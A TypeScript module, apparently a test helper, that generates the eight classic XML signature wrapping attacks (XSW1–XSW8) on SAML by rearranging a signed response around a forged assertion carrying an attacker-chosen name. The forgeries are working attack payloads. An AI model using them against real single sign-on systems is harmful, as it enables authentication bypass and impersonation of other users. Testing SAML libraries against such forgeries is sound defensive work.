// The eight classic XML signature wrapping attacks, in which a forged assertion is read in place of the signed one. See
// Somorovsky and others, "On Breaking SAML" (USENIX Security, 2012).
const signaturePattern = /<ds:Signature .*?<\/ds:Signature>/s;

/** Parts of a valid response, which an attacker combines in another way. */
interface Parts {
  /** Beginning and end of the response, without its content. */
  readonly open: string;
  readonly close: string;
  /** Signed assertion, with and without its signature. */
  readonly honest: string;
  readonly bare: string;
  readonly signature: string;
  /** Forged assertion without a signature. */
  readonly forged: string;
}

const partsOf = (response: string, evilName: string, honestName: string): Parts => {
  const start = response.indexOf('<saml:Assertion');
  const end = response.indexOf('</samlp:Response>');
  const honest = response.slice(start, end);
  const signature = signaturePattern.exec(honest)?.[0] ?? '';
  const bare = honest.replace(signaturePattern, '');
  return {
    open: response.slice(0, start),
    close: response.slice(end),
    honest,
    bare,
    signature,
    forged: bare.replaceAll(honestName, evilName).replace(/ ID="[^"]*"/, ' ID="_evil"'),
  };
};

const inside = (element: string, closing: string, content: string): string =>
  element.slice(0, element.lastIndexOf(closing)) + content + closing;

const withinSignature = (signature: string, content: string): string => inside(signature, '</ds:Signature>', content);

const withSignature = (element: string, signature: string): string =>
  element.replace('</saml:Issuer>', `$&${signature}`);

const asRoot = (response: string, id: string): string => response.replace(/ ID="[^"]*"/, ` ID="${id}"`);

/**
 * Returns forged responses by name of the attack. In `response` only the assertion is signed, in `whole` the whole
 * response.
 */
export const wrapped = (
  { response, whole }: { readonly response: string; readonly whole: string },
  honestName: string,
  evilName: string,
): Readonly<Record<string, string>> => {
  const parts = partsOf(response, evilName, honestName);
  const { open, close, honest, bare, signature, forged } = parts;
  const own = signaturePattern.exec(whole)?.[0] ?? '';
  const bareWhole = whole.replace(signaturePattern, '');
  const evilWhole = asRoot(bareWhole.replaceAll(honestName, evilName), '_evil_response');
  return {
    'XSW1: the signed response within the signature of a forged one': withSignature(
      evilWhole,
      withinSignature(own, bareWhole),
    ),
    'XSW2: the signed response beside its signature in a forged one': withSignature(evilWhole, `${bareWhole}${own}`),
    'XSW3: a forged assertion before the signed one': `${open}${forged}${honest}${close}`,
    'XSW4: the signed assertion within a forged one': `${open}${inside(forged, '</saml:Assertion>', honest)}${close}`,
    'XSW5: a forged assertion with the signature, the signed one at the end': `${open}${withSignature(forged, signature)}${bare}${close}`,
    'XSW6: the signed assertion within the signature of a forged one': `${open}${withSignature(forged, withinSignature(signature, bare))}${close}`,
    'XSW7: a forged assertion in an extension before the signed one': `${open}<samlp:Extensions>${forged}</samlp:Extensions>${honest}${close}`,
    'XSW8: the signed assertion in an object of its signature in a forged one': `${open}${withSignature(
      forged,
      withinSignature(signature, `<ds:Object>${bare}</ds:Object>`),
    )}${close}`,
  };
};
